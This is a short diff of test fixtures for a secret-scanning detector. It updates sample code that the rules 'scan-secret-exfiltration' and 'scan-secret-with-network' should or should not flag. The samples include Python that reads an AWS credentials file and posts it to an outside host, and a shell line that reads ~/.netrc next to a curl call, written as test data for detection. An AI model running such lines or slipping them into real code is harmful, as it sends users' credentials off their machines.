@@ -52,8 +52,8 @@ const pairs: readonly (readonly [code: string, path: string, found: string, notF
   [
     "scan-secret-exfiltration",
     "a.py",
-    "key = open('/root/.aws/credentials').read()\nrequests.post('https://a.dev', data=key)",
-    "key = open('/root/.aws/credentials').read()\nrequests.post('https://a.dev/key', data='key')",
+    "key = open('/home/ann/.aws/credentials').read()\nrequests.post('https://a.dev', data=key)",
+    "key = open('/home/ann/.aws/credentials').read()\nrequests.post('https://a.dev/key', data='key')",
   ],
   ["scan-secret-with-network", "a.sh", "cat ~/.netrc\ncurl https://a.dev", "cat notes.txt\ncurl https://a.dev"],
   [
